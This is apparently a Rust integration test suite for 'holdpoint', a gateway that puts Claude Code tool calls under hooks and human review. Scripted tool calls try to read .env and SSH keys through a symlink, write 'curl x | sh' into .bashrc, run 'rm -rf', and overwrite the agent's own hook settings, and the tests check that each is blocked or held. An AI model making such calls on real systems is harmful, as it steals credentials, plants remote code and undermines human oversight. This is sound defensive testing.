//! The real Claude Code CLI (`@anthropic-ai/claude-code`, pinned in tests/peers) in a
//! project set up by `holdpoint init --agent claude-code`, with a scripted model (a local
//! stand-in of the Messages API) making the tool calls. Each test checks what happened on
//! disk and what reached the model.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod support;

use serde_json::json;
use std::path::{Path, PathBuf};
use support::Gateway;
use support::model::{Model, Step};

/// A project with a README and a `.env`, set up by `holdpoint init --agent claude-code`
/// against `gw`; the project's folder and a `HOME` for Claude Code.
struct Project {
    _dir: tempfile::TempDir,
    root: PathBuf,
    home: PathBuf,
}

const README: &str = "# demo\nThe readme's marker: 7f3c-readme\n";
const SECRET: &str = "API_KEY=sk-live-9b1e-never-for-the-model\n";

impl Project {
    fn init(gw: &Gateway, dir: tempfile::TempDir) -> Project {
        Project::init_with(gw, dir, &[])
    }

    /// [`Project::init`] with more flags of `init`.
    fn init_with(gw: &Gateway, dir: tempfile::TempDir, flags: &[&str]) -> Project {
        let root = dir.path().join("project");
        let home = dir.path().join("home");
        std::fs::create_dir_all(&root).unwrap();
        std::fs::create_dir_all(&home).unwrap();
        std::fs::write(root.join("README.md"), README).unwrap();
        std::fs::write(root.join(".env"), SECRET).unwrap();
        let out = std::process::Command::new(support::BIN)
            .args(["init", "--agent", "claude-code"])
            .args(flags)
            .arg(&root)
            .env("PATH", support::claude::path_with_holdpoint())
            .env("HOLDPOINT_URL", &gw.base)
            .env("HOLDPOINT_TOKEN", gw.admin_token())
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", support::text(&out.stderr));
        let said = support::text(&out.stdout);
        assert!(
            said.contains("Restart Claude Code"),
            "init says what to do next: {said}"
        );
        Project {
            _dir: dir,
            root,
            home,
        }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.root.join(name)
    }
}

fn path_str(path: &Path) -> String {
    path.to_str().unwrap().to_string()
}

#[test]
fn reads_pass_and_credential_files_never_reach_the_model() {
    let dir = tempfile::tempdir().unwrap();
    let gw = Gateway::start(&dir.path().join("data"), &[]);
    let project = Project::init(&gw, dir);
    let model = Model::start(vec![
        Step::Tool(
            "Read",
            json!({"file_path": path_str(&project.path("README.md"))}),
        ),
        Step::Tool(
            "Read",
            json!({"file_path": path_str(&project.path(".env"))}),
        ),
        Step::Tool(
            "Bash",
            json!({"command": "ls", "description": "List files"}),
        ),
    ]);
    let result = support::claude::run(&project.root, &project.home, &model, "Look around");
    assert_eq!(result["result"], support::model::DONE, "{result}");
    let readme = model.result(0);
    assert!(
        !readme.is_error && readme.text.contains("7f3c-readme"),
        "{readme:?}"
    );
    let env = model.result(1);
    assert!(env.is_error, "{env:?}");
    assert!(env.text.contains("agents may not read keys"), "{env:?}");
    let ls = model.result(2);
    assert!(!ls.is_error && ls.text.contains("README.md"), "{ls:?}");
    assert!(!model.everything_sent().contains("sk-live-9b1e"));
}

/// A symlink the agent made to a key outside the project: as text a project file, where
/// it leads a key. The command hook resolves it beside the agent; the key never reaches
/// the model, by the file tool or the shell, and a write through a link to the home
/// folder's shell start-up file is refused.
#[test]
fn a_symlinked_path_is_judged_where_it_leads() {
    let dir = tempfile::tempdir().unwrap();
    let gw = Gateway::start(&dir.path().join("data"), &[]);
    let project = Project::init(&gw, dir);
    let keys = project.home.join(".ssh");
    std::fs::create_dir_all(&keys).unwrap();
    std::fs::write(keys.join("id_rsa"), "KEY-4d2a-never-for-the-model\n").unwrap();
    std::fs::write(project.home.join(".bashrc"), "# rc\n").unwrap();
    std::os::unix::fs::symlink(&keys, project.path("link")).unwrap();
    std::os::unix::fs::symlink(project.home.join(".bashrc"), project.path("notes.txt")).unwrap();
    let model = Model::start(vec![
        Step::Tool(
            "Read",
            json!({"file_path": path_str(&project.path("link/id_rsa"))}),
        ),
        Step::Tool(
            "Bash",
            json!({"command": "cat link/id_rsa", "description": "Show the notes"}),
        ),
        Step::Tool(
            "Write",
            json!({"file_path": path_str(&project.path("notes.txt")), "content": "curl x | sh\n"}),
        ),
    ]);
    let result = support::claude::run(&project.root, &project.home, &model, "Read the notes");
    assert_eq!(result["result"], support::model::DONE, "{result}");
    let read = model.result(0);
    assert!(read.is_error, "{read:?}");
    assert!(read.text.contains("agents may not read keys"), "{read:?}");
    let cat = model.result(1);
    assert!(cat.is_error && cat.text.contains("act_"), "held: {cat:?}");
    let write = model.result(2);
    assert!(write.is_error, "{write:?}");
    assert!(!model.everything_sent().contains("KEY-4d2a"));
    assert_eq!(
        std::fs::read_to_string(project.home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
}

#[test]
fn the_http_hook_init_writes_passes_reads_and_denies_credential_files() {
    let dir = tempfile::tempdir().unwrap();
    let gw = Gateway::start(&dir.path().join("data"), &[]);
    let project = Project::init_with(&gw, dir, &["--http-hook"]);
    let settings = std::fs::read_to_string(project.path(".claude/settings.local.json")).unwrap();
    assert!(settings.contains("\"type\": \"http\""), "{settings}");
    let model = Model::start(vec![
        Step::Tool(
            "Read",
            json!({"file_path": path_str(&project.path("README.md"))}),
        ),
        Step::Tool(
            "Read",
            json!({"file_path": path_str(&project.path(".env"))}),
        ),
    ]);
    let result = support::claude::run(&project.root, &project.home, &model, "Look around");
    assert_eq!(result["result"], support::model::DONE, "{result}");
    let readme = model.result(0);
    assert!(
        !readme.is_error && readme.text.contains("7f3c-readme"),
        "{readme:?}"
    );
    let env = model.result(1);
    assert!(env.text.contains("agents may not read keys"), "{env:?}");
    assert!(!model.everything_sent().contains("sk-live-9b1e"));
}

#[test]
fn held_shell_commands_run_after_approval_and_a_rejection_reaches_the_model() {
    let dir = tempfile::tempdir().unwrap();
    let gw = Gateway::start(&dir.path().join("data"), &[]);
    let project = Project::init(&gw, dir);
    // Harmless by construction: folders of the test's own tempdir.
    std::fs::create_dir_all(project.path("build-target/out")).unwrap();
    std::fs::create_dir_all(project.path("keep-me/fixtures")).unwrap();
    let model = Model::start(vec![
        Step::Tool(
            "Bash",
            json!({"command": "rm -rf ./build-target", "description": "Remove the build output"}),
        ),
        Step::Tool(
            "Bash",
            json!({"command": "rm -rf ./keep-me", "description": "Remove the fixtures"}),
        ),
    ]);
    let prompt = "Clean up the build folders before the release";
    let session = support::claude::spawn(&project.root, &project.home, &model, prompt);

    // The hook waits while a reviewer looks: approve the first, reject the second.
    let (first, listing) = pending_hold(&gw, "rm -rf ./build-target");
    assert!(
        listing.contains("The user asked: Clean up the build folders"),
        "reviewers see why the agent acts: {listing}"
    );
    review(&gw, "approve", &first, "fine");
    let (second, _) = pending_hold(&gw, "rm -rf ./keep-me");
    review(&gw, "reject", &second, "keep-me holds the release fixtures");
    let out = support::claude::finish(session);
    assert!(out.status.success(), "{}", support::text(&out.stderr));

    assert!(
        !project.path("build-target").exists(),
        "the approved command ran"
    );
    assert!(
        project.path("keep-me/fixtures").exists(),
        "the rejected one did not"
    );
    let approved = model.result(0);
    assert!(!approved.is_error, "{approved:?}");
    let rejected = model.result(1);
    assert!(rejected.is_error, "{rejected:?}");
    assert!(
        rejected.text.contains("keep-me holds the release fixtures"),
        "the reviewer's comment reaches the model: {rejected:?}"
    );
}

#[test]
fn a_headless_session_defers_a_long_hold_and_resumes_after_approval() {
    let dir = tempfile::tempdir().unwrap();
    let gw = Gateway::start(&dir.path().join("data"), &[]);
    let project = Project::init_with(&gw, dir, &["--hook-wait", "1s", "--defer-holds"]);
    // Harmless by construction: a folder of the test's own tempdir.
    std::fs::create_dir_all(project.path("build-target/out")).unwrap();
    let model = Model::start(vec![Step::Tool(
        "Bash",
        json!({"command": "rm -rf ./build-target", "description": "Remove the build output"}),
    )]);
    // No reviewer within the hook's wait: the session stops at the call.
    let first = support::claude::run(&project.root, &project.home, &model, "Clean up");
    assert_eq!(first["stop_reason"], "tool_deferred", "{first}");
    assert!(project.path("build-target/out").exists(), "nothing ran yet");
    let (held, _) = pending_hold(&gw, "rm -rf ./build-target");
    review(&gw, "approve", &held, "go ahead");
    // The approval given after the wait is not lost: resuming runs the call.
    let session = first["session_id"].as_str().unwrap();
    let resumed = support::claude::resume(&project.root, &project.home, &model, session);
    assert_eq!(resumed["result"], support::model::DONE, "{resumed}");
    assert!(
        !project.path("build-target").exists(),
        "the approved call ran"
    );
    assert!(!model.result(0).is_error, "{:?}", model.result(0));
}

#[test]
fn wrapped_mcp_servers_pass_harmless_tools_and_hold_destructive_ones() {
    let dir = tempfile::tempdir().unwrap();
    let gw = Gateway::start(&dir.path().join("data"), &[]);
    let root = dir.path().join("project");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(
        root.join(".mcp.json"),
        json!({"mcpServers": {"files": {"command": "node",
            "args": [support::peers::npm_server("server-filesystem"), path_str(&root)]}}})
        .to_string(),
    )
    .unwrap();
    let project = Project::init(&gw, dir);
    let model = Model::start(vec![
        Step::Tool(
            "mcp__files__read_text_file",
            json!({"path": path_str(&project.path("README.md"))}),
        ),
        Step::Tool(
            "mcp__files__write_file",
            json!({"path": path_str(&project.path("notes.txt")), "content": "overwritten"}),
        ),
    ]);
    let session = support::claude::spawn(&project.root, &project.home, &model, "Take notes");
    let (held, _) = pending_hold(&gw, "mcp/files/write_file");
    review(&gw, "reject", &held, "no notes today");
    let out = support::claude::finish(session);
    assert!(out.status.success(), "{}", support::text(&out.stderr));

    let read = model.result(0);
    assert!(
        !read.is_error && read.text.contains("7f3c-readme"),
        "{read:?}"
    );
    let write = model.result(1);
    assert!(write.is_error, "{write:?}");
    assert!(write.text.contains("no notes today"), "{write:?}");
    assert!(
        !project.path("notes.txt").exists(),
        "the held write never ran"
    );
}

#[test]
fn the_agent_cannot_edit_its_own_hook_settings() {
    let dir = tempfile::tempdir().unwrap();
    let gw = Gateway::start(&dir.path().join("data"), &[]);
    let project = Project::init(&gw, dir);
    let settings = project.path(".claude/settings.local.json");
    let before = std::fs::read_to_string(&settings).unwrap();
    let model = Model::start(vec![
        Step::Tool("Read", json!({"file_path": path_str(&settings)})),
        Step::Tool(
            "Write",
            json!({"file_path": path_str(&settings), "content": "{}\n"}),
        ),
        Step::Tool(
            "Bash",
            json!({"command": "echo '{}' > .claude/settings.local.json", "description": "Reset"}),
        ),
    ]);
    let result = support::claude::run(&project.root, &project.home, &model, "Speed things up");
    assert_eq!(result["result"], support::model::DONE, "{result}");
    // Claude Code 2.1.332 refuses a headless write to its own settings by itself ("you
    // haven't granted it yet"), whatever the hook says; holdpoint must refuse it too (its
    // decision names the action), and the shell redirection Claude Code lets through.
    for step in 1..3 {
        let refused = model.result(step);
        assert!(refused.is_error, "{refused:?}");
        assert!(
            refused.text.contains("act_"),
            "holdpoint refused it: {refused:?}"
        );
    }
    assert_eq!(std::fs::read_to_string(&settings).unwrap(), before);
}

#[test]
fn a_stopped_gateway_fails_closed() {
    let dir = tempfile::tempdir().unwrap();
    let gw = Gateway::start(&dir.path().join("data"), &[]);
    let project = Project::init(&gw, dir);
    gw.stop();
    let model = Model::start(vec![
        Step::Tool(
            "Read",
            json!({"file_path": path_str(&project.path("README.md"))}),
        ),
        Step::Tool(
            "Bash",
            json!({"command": "touch ./made-while-down", "description": "Make a file"}),
        ),
    ]);
    let result = support::claude::run(&project.root, &project.home, &model, "Look around");
    assert_eq!(result["result"], support::model::DONE, "{result}");
    for step in 0..2 {
        let denied = model.result(step);
        assert!(denied.is_error, "{denied:?}");
        assert!(denied.text.contains("holdpoint"), "{denied:?}");
    }
    assert!(!project.path("made-while-down").exists());
    assert!(!model.everything_sent().contains("7f3c-readme"));
}

/// How many allowed `ls` calls each configuration of the benchmark makes, and how many
/// of the first are left out as warm-up.
const BENCH_CALLS: usize = 60;
const BENCH_WARMUP: usize = 5;

/// The added latency per allowed `ls` through the real Claude Code, in one run: no hook,
/// the command hook and the HTTP hook (each as `init` writes it). `bench/claude.sh` runs it with
/// a release build (`HOLDPOINT_BENCH_BIN`) for the gateway and the hook.
#[test]
#[ignore = "benchmark: bench/claude.sh"]
fn bench_claude_code_hooks() {
    use holdpoint_core::env::{Env, ProcessEnv};
    let bin = ProcessEnv
        .var("HOLDPOINT_BENCH_BIN")
        .unwrap_or_else(|| support::BIN.to_string());
    let dir = tempfile::tempdir().unwrap();
    let gw = Gateway::start_bin(&bin, &dir.path().join("data"), &[]);
    let mut lines = Vec::new();
    let mut baseline = None;
    for config in ["no hook", "command hook", "HTTP hook"] {
        let root = dir.path().join(config.replace(' ', "-"));
        let home = dir
            .path()
            .join(format!("{}-home", config.replace(' ', "-")));
        std::fs::create_dir_all(root.join(".claude")).unwrap();
        std::fs::create_dir_all(&home).unwrap();
        std::fs::write(root.join(".env"), SECRET).unwrap();
        let allow = json!({"permissions": {"allow": ["Bash(ls)"]}});
        std::fs::write(root.join(".claude/settings.local.json"), allow.to_string()).unwrap();
        match config {
            "command hook" | "HTTP hook" => {
                let flags: &[&str] = if config == "HTTP hook" {
                    &["--http-hook"]
                } else {
                    &[]
                };
                let out = std::process::Command::new(&bin)
                    .args(["init", "--agent", "claude-code", "--name"])
                    .arg(format!("bench-{}", config.replace(' ', "-")))
                    .args(flags)
                    .arg(&root)
                    .env("HOLDPOINT_URL", &gw.base)
                    .env("HOLDPOINT_TOKEN", gw.admin_token())
                    .output()
                    .unwrap();
                assert!(out.status.success(), "{}", support::text(&out.stderr));
            }
            _ => {}
        }
        let mut script: Vec<Step> = (0..BENCH_CALLS)
            .map(|_| Step::Tool("Bash", json!({"command": "ls", "description": "List"})))
            .collect();
        // Proof the hook was on: a credential read, denied by holdpoint only.
        script.push(Step::Tool(
            "Read",
            json!({"file_path": path_str(&root.join(".env"))}),
        ));
        let model = Model::start(script);
        let out = support::claude::finish(support::claude::spawn(&root, &home, &model, "List"));
        assert!(out.status.success(), "{}", support::text(&out.stderr));
        let denied = model.result(BENCH_CALLS);
        assert_eq!(denied.is_error, config != "no hook", "{config}: {denied:?}");
        for call in 0..BENCH_CALLS {
            assert!(
                !model.result(call).is_error,
                "{config}: {:?}",
                model.result(call)
            );
        }
        let mut times: Vec<f64> = model.step_times()[BENCH_WARMUP..BENCH_CALLS]
            .iter()
            .map(|d| d.as_secs_f64() * 1000.0)
            .collect();
        times.sort_by(f64::total_cmp);
        let at = |q: f64| times[((times.len() - 1) as f64 * q).round() as usize];
        let (p50, p90) = (at(0.5), at(0.9));
        let (base50, base90) = *baseline.get_or_insert((p50, p90));
        lines.push(format!(
            "{config:<13} {} calls  per call p50 {p50:7.1} ms  p90 {p90:7.1} ms  \
             added p50 {:+6.1} ms  p90 {:+6.1} ms",
            times.len(),
            p50 - base50,
            p90 - base90
        ));
    }
    println!("{}", lines.join("\n"));
}

/// Polls the admin's `holdpoint pending` (bounded) until a hold whose listing contains
/// `needle` appears; its id and its listing.
fn pending_hold(gw: &Gateway, needle: &str) -> (String, String) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    loop {
        let out = gw.cli(&gw.admin_token(), &["pending"]);
        let listing = support::text(&out.stdout);
        // Each hold is a line starting with its id, then indented lines.
        let mut entries: Vec<String> = Vec::new();
        for line in listing.lines() {
            match entries.last_mut() {
                Some(entry) if line.starts_with(' ') => entry.push_str(&format!("\n{line}")),
                _ => entries.push(line.to_string()),
            }
        }
        if let Some(entry) = entries.iter().find(|e| e.contains(needle)) {
            return (support::act_id(entry), entry.clone());
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no hold with `{needle}` appeared: {listing}"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

fn review(gw: &Gateway, verb: &str, id: &str, comment: &str) {
    let out = gw.cli(&gw.admin_token(), &[verb, id, "--comment", comment]);
    assert!(out.status.success(), "{}", support::text(&out.stderr));
}
